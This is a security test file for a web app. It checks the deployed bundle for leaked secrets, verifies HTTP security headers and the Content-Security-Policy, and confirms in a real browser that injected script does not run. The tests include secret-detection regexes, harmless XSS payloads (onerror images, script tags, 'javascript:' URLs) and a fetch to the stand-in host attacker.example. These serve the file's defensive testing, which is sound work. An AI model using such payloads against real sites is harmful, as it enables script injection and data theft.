import { readdir, readFile } from 'node:fs/promises';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
import { DEMO_PASSWORD, DEMO_PEOPLE } from '../../tools/demo-people.ts';
import { createPerson, db, type TestUser, userDoc } from '../support/admin.ts';
import { stack } from '../support/stack.ts';
import { openBrowser, type RealBrowser } from './support/chromium.ts';
import { type Visitor, visit } from './support/visitor.ts';

const dist = resolve(import.meta.dirname, '../../web/dist');

describe('what is deployed', () => {
  let bundle: string;
  let names: string[];

  beforeAll(async () => {
    const entries = await readdir(dist, { recursive: true, withFileTypes: true });
    const files = entries.filter((entry) => entry.isFile());
    names = files.map(({ name }) => name);
    const texts = await Promise.all(
      files.map(({ parentPath, name }) => readFile(join(parentPath, name), 'latin1')),
    );
    bundle = texts.join('\n');
  });

  it('is there', () => {
    expect(bundle).toContain('live-claims');
  });

  it.each([
    ...DEMO_PEOPLE.flatMap(({ email, displayName }) => [email, displayName]),
    DEMO_PASSWORD,
    'Sign in as',
    'VITE_AUTH_EMULATOR',
    '127.0.0.1',
  ])('knows no %s: demo people and emulators are for development only', (text) => {
    expect(bundle).not.toContain(text);
  });

  it.each([
    ['an API key', /AIza[\w-]{35}/],
    ['a private key', /BEGIN [A-Z ]*PRIVATE KEY/],
    ['a service account', /gserviceaccount\.com|service_account/],
    ['a token', /eyJ[\w-]{10,}\.eyJ[\w-]{10,}\./],
    ['a path of the machine that built it', /\/(home|Users|work|root)\/[\w.-]+\//],
  ])('holds no secret: %s', (_, pattern) => {
    expect(bundle).not.toMatch(pattern);
  });

  it('calls the functions of its own project, and of no other', async () => {
    const page = await readFile(join(dist, 'index.html'), 'utf8');
    const [, policy = ''] =
      /<meta http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(page) ?? [];
    expect(policy).toContain(`https://us-central1-${stack.projectId}.cloudfunctions.net`);
    expect(policy).not.toContain('*');
  });

  it('has no source maps, and no script or style inside its page', async () => {
    expect(names.filter((name) => name.endsWith('.map'))).toEqual([]);
    const page = await readFile(join(dist, 'index.html'), 'utf8');
    expect(page).not.toMatch(/<script(?![^>]*\bsrc=)|<style|\sstyle=|\son\w+=|javascript:/i);
    expect(page.match(/\b(src|href)="(?!\/)[^"]*"/g)).toBeNull();
  });
});

describe('the security headers of Hosting', () => {
  const headersOf = async (path: string) => (await fetch(`${stack.hostingUrl}${path}`)).headers;

  it.each(['/', '/people', '/colour-scheme.js', '/no-such-file.txt'])('are on %s', async (path) => {
    const headers = await headersOf(path);
    expect(Object.fromEntries(headers)).toMatchObject({
      'x-content-type-options': 'nosniff',
      'x-frame-options': 'DENY',
      'referrer-policy': 'strict-origin-when-cross-origin',
      'cross-origin-opener-policy': 'same-origin',
      'cross-origin-resource-policy': 'same-origin',
      'strict-transport-security': 'max-age=31536000; includeSubDomains',
      'cache-control': 'no-cache',
    });
    expect(headers.get('permissions-policy')).toContain('camera=()');
  });

  it('let no script in but the app’s own, and say nothing of it by name', async () => {
    const policy = (await headersOf('/')).get('content-security-policy') ?? '';
    const directives = new Map(
      policy.split(';').map((directive) => {
        const [name = '', ...sources] = directive.trim().split(/\s+/);
        return [name, sources] as const;
      }),
    );
    expect(directives.get('default-src')).toEqual(["'none'"]);
    expect(directives.get('script-src')).toEqual(["'self'"]);
    expect(directives.get('style-src')).toEqual(["'self'"]);
    expect(directives.get('base-uri')).toEqual(["'none'"]);
    expect(directives.get('font-src')).toEqual(["'self'"]);
    expect(directives.get('img-src')).toEqual([
      "'self'",
      'https://lh3.googleusercontent.com',
      // Firestore's SDK looks by it whether there is a network, when a connection was cut off.
      'https://www.google.com/images/cleardot.gif',
    ]);
    expect(directives.get('form-action')).toEqual(["'none'"]);
    expect(directives.get('frame-ancestors')).toEqual(["'none'"]);
    expect(directives.get('require-trusted-types-for')).toEqual(["'script'"]);
    expect(policy).not.toMatch(/unsafe|nonce|sha256|http:|\*(?!\.cloudfunctions\.net)/);
  });

  it('let browsers keep what never changes, and nothing else', async () => {
    const page = await (await fetch(stack.hostingUrl)).text();
    const [, script = ''] = /src="(\/assets\/[^"]+\.js)"/.exec(page) ?? [];
    expect((await headersOf(script)).get('cache-control')).toContain('immutable');
    expect((await headersOf('/')).get('cache-control')).toBe('no-cache');
  });
});

describe('under its policy, in a real browser', () => {
  let real: RealBrowser;
  let owner: TestUser;

  beforeAll(async () => {
    [real, owner] = await Promise.all([openBrowser(), createPerson('owner')]);
  });
  afterAll(() => real?.close());

  /** The owner in a browser that no other test has used; it closes with the test. */
  async function openAsOwner(): Promise<Visitor> {
    const { visitor, context } = await visit(real.browser);
    onTestFinished(() => context.close());
    await visitor.signIn(owner);
    return visitor;
  }

  it('the app works in every place and dialog, and nothing of it is refused', async () => {
    const visitor = await openAsOwner();
    const { page } = visitor;
    const name = `Zoe ${Date.now()}`;
    await userDoc((await createPerson('viewer')).uid).update({ displayName: name });
    const closeDialog = async () => {
      await page.getByRole('dialog').waitFor();
      await page.keyboard.press('Escape');
      await page.getByRole('dialog').waitFor({ state: 'detached' });
    };
    await visitor.writeButton().click();
    await closeDialog();
    await visitor.goTo('People');
    await visitor.openPerson(name);
    await page.getByRole('button', { name: `Change role of ${name}` }).click();
    await closeDialog();
    for (const action of ['Sign out everywhere…', 'Disable account…', 'Delete account…']) {
      await visitor.chooseFor(name, action);
      await closeDialog();
    }
    await visitor.goTo('People');
    await visitor.showInvites();
    await page.getByRole('button', { name: 'Invite people' }).click();
    await closeDialog();
    await visitor.goTo('Audit log');
    await visitor.goTo('Settings');
    await page.getByRole('button', { name: 'Turn lockdown on' }).click();
    await closeDialog();
    await visitor.goTo('My access');
    await page.getByRole('button', { name: 'Sign out everywhere' }).click();
    await closeDialog();
    await page.getByRole('button', { name: /^Switch to/ }).click();
    await page.getByRole('button', { name: /^Switch to/ }).click();
    expect(visitor.errors).toEqual([]);
  });

  it('its colours come with the theme: the variables are set without a <style> element', async () => {
    const visitor = await openAsOwner();
    const [styles, body] = await visitor.page.evaluate(() => [
      document.querySelectorAll('style').length,
      getComputedStyle(document.documentElement).getPropertyValue('--lc-surface').trim(),
    ]);
    expect(styles).toBe(0);
    expect(body).toMatch(/^#/);
  });

  it('its fonts are its own: they come with it, and every text is in one of them', async () => {
    const { page, errors } = await openAsOwner();
    const families = await page.evaluate(async () => {
      await document.fonts.ready;
      const loaded = [...document.fonts].filter(({ status }) => status === 'loaded');
      return [...new Set(loaded.map(({ family }) => family.replaceAll('"', '')))].toSorted();
    });
    expect(families).toEqual(expect.arrayContaining(['Source Sans 3', 'Source Serif 4']));
    expect(errors).toEqual([]);
  });

  it('a script that got into the page does not run, and nothing is sent elsewhere', async () => {
    const visitor = await openAsOwner();
    const attacks = await visitor.page.evaluate(async () => {
      const tries = [
        () => {
          const script = document.createElement('script');
          script.text = 'window.hacked = "a script element"';
          document.head.append(script);
        },
        () => {
          const image = '<img src="/none" onerror="window.hacked = \'markup\'">';
          document.body.insertAdjacentHTML('beforeend', image);
        },
        () => new Function('window.hacked = "a text as code"')(),
        () => {
          document.body.setAttribute('onclick', 'window.hacked = "an attribute"');
          document.body.click();
        },
      ];
      // In a task of the page's own: what the test itself evaluates stands above the policy.
      for (const attack of tries) {
        await new Promise<void>((done) =>
          setTimeout(() => {
            try {
              attack();
            } catch {
              // Trusted Types throw; that is as good.
            }
            done();
          }),
        );
      }
      const sent = await fetch('https://attacker.example/').then(
        () => true,
        () => false,
      );
      return { ran: (window as { hacked?: unknown }).hacked ?? null, sent };
    });
    expect(attacks).toEqual({ ran: null, sent: false });
    // The policy refused it, rather than the network that the test does not have.
    expect(visitor.errors.some((error) => error.includes('attacker.example'))).toBe(true);
  });

  it('stored markup is text: in names, addresses of pictures and posts', async () => {
    const visitor = await openAsOwner();
    const { page } = visitor;
    const markup = `<img src=x onerror="window.hacked=1"> ${Date.now()}`;
    const person = await createPerson('viewer');
    await userDoc(person.uid).update({ displayName: markup, photoURL: 'javascript:hacked=1' });
    await db.collection('posts').add({
      title: markup,
      body: '<script>window.hacked=1</script>',
      authorId: person.uid,
      status: 'published',
      createdAt: new Date(),
      updatedAt: new Date(),
    });
    await visitor.goTo('Posts');
    await page.getByRole('heading', { name: markup }).waitFor();
    await visitor.goTo('People');
    await visitor.openPerson(markup);
    expect(await page.locator('img').count()).toBe(0);
    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
    expect(visitor.errors).toEqual([]);
  });
});
